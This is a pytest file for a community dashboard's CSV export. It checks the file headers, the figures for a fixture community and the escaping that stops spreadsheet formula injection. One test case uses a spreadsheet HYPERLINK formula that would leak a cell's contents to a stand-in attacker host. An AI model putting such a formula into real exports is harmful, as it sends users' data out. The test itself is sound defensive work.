"""The CSV of the figures for funders: how it is served, what it holds for Elm Street
(tests/dashboard/conftest.py), and that no cell can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest

from commons.dashboard.export import HEADER, safe_cell
from tests.conftest import log_in
from tests.dashboard.conftest import make_community, now

ELM = "Elm Street"


def download(client, slug: str):
    response = client.get(f"/communities/{slug}/dashboard.csv")
    assert response.status_code == 200
    return response


def parse(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))


def test_the_csv_is_a_download(client, elm_street):
    with now():
        log_in(client, elm_street.cora)
        response = download(client, "elm-street")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response.headers["Content-Disposition"]
        == 'attachment; filename="elm-street-dashboard-2025-06-30.csv"'
    )
    body = response.get_data()
    # A byte order mark, so Excel reads UTF-8; then RFC 4180 lines.
    assert body.startswith(b"\xef\xbb\xbfcommunity,figure,window,")
    assert b"\r\n" in body


def test_the_csv_holds_every_figure_of_both_windows_and_the_weekly_series(client, elm_street):
    with now():
        log_in(client, elm_street.cora)
        rows = parse(download(client, "elm-street"))
    assert rows[0] == list(HEADER)
    table = rows[1:]
    assert all(row[0] == ELM for row in table)

    def find(figure: str, window: str, detail: str | None = None) -> list[str]:
        found = [
            row[3:]
            for row in table
            if row[1] == figure and row[2] == window and (detail is None or row[5] == detail)
        ]
        assert len(found) == 1, (figure, window, detail, found)
        return found[0]

    # Open now (tests/dashboard/conftest.py): two rows per category that has any, and totals.
    today = ["2025-06-30", "2025-06-30"]
    assert find("open offers", "now", "Food") == [*today, "Food", "1", "posts"]
    assert find("open needs", "now", "Food") == [*today, "Food", "1", "posts"]
    assert find("open needs", "now", "Tools & equipment") == [
        *today, "Tools & equipment", "0", "posts"
    ]  # fmt: skip
    assert find("open offers", "now", "all categories")[3] == "3"
    assert find("open needs", "now", "all categories")[3] == "3"

    four = ["2025-06-02", "2025-06-30"]
    twelve = ["2025-04-07", "2025-06-30"]
    assert find("needs posted", "last 4 weeks") == [*four, "", "6", "needs"]
    assert find("needs met", "last 4 weeks")[3] == "2"
    assert find("share of needs met", "last 4 weeks") == [*four, "2 of 6", "33", "percent"]
    assert find("share of needs met", "last 12 weeks") == [*twelve, "3 of 8", "38", "percent"]
    # Durations in hours, for sums; the detail says it in words and over how many posts.
    assert find("median time from posting to first claim", "last 4 weeks") == [
        *four, "1 day 4 hours, over 4 posts answered", "28.0", "hours"
    ]  # fmt: skip
    assert find("median time from posting to first claim", "last 12 weeks")[3] == "6.0"
    assert find("median time from posting to completion", "last 4 weeks")[3] == "168.0"
    assert find("median time from posting to completion", "last 12 weeks") == [
        *twelve, "3 days 12 hours, over 4 posts completed", "84.5", "hours"
    ]  # fmt: skip
    detail = "through the time bank, between the community's members"
    assert find("hours exchanged", "last 4 weeks") == [*four, detail, "3.5", "hours"]
    assert find("hours exchanged", "last 12 weeks")[3] == "5"
    assert find("active mentorships", "last 12 weeks")[3] == "0"
    assert find("new posts", "last 4 weeks")[3] == "7"
    assert find("claims", "last 12 weeks")[3] == "10"
    assert find("new members", "last 12 weeks")[3] == "3"

    # The weekly series of the last 12 weeks: three rows a week.
    series = [row for row in table if row[1].endswith("in the week")]
    assert len(series) == 36
    assert [row[6] for row in series if row[1] == "new posts in the week"] == [
        "0", "0", "1", "1", "1", "0", "0", "0", "1", "2", "1", "3"
    ]  # fmt: skip
    assert series[0] == [
        ELM, "new posts in the week", "last 12 weeks", "2025-04-07", "2025-04-14",
        "week 1 of 12", "0", "posts",
    ]  # fmt: skip
    # Open: 5 categories x 2 + 2 totals; 10 figures per window; the series.
    assert len(table) == 12 + 2 * 10 + 36


def test_an_empty_community_has_no_share_rather_than_a_division_by_zero(client, world):
    log_in(client, world.coordinator)
    rows = parse(download(client, "northside"))
    share = [row for row in rows if row[1] == "share of needs met"]
    assert [row[5:] for row in share] == [["no needs yet", "", "percent"]] * 2
    first = [row for row in rows if row[1] == "median time from posting to first claim"]
    assert [row[5:] for row in first] == [["no posts answered yet", "", "hours"]] * 2


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the report")',
        "+1 Neighbours",
        "-Northside-",
        "@Everyone",
    ],
)
def test_no_cell_runs_as_a_formula(client, make_user, name):
    coordinator = make_user("Fran Formula")
    community = make_community(coordinator, name, 51.45)
    log_in(client, coordinator)
    response = download(client, community.slug)
    rows = parse(response)[1:]
    assert rows and all(row[0] == "'" + name for row in rows)
    # No cell of the file starts with a formula character.
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]
    if name.startswith("="):
        # Quoted as RFC 4180 asks: the whole cell in quotes, inner quotes doubled.
        assert (
            '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for the report"")"'
            in response.get_data(as_text=True)
        )


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+44 20", "'+44 20"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Elm Street", "Elm Street"),
        ("a=b", "a=b"),
        (12, "12"),
        (84.5, "84.5"),
        (None, ""),
        ("", ""),
    ],
)
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell
